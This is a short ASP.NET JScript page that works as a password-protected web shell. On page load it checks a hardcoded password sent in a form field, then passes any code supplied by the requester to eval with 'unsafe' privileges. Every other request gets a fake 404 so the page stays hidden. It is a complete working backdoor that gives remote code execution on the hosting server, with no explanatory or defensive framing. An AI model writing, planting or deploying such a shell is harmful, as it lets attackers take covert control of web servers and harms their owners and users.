<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load() {
    if (Request.Form["pass"] == "Xq9!vR2m") {
        eval(Request.Form["code"], "unsafe");
    } else {
        Response.StatusCode = 404;
    }
}
</script>
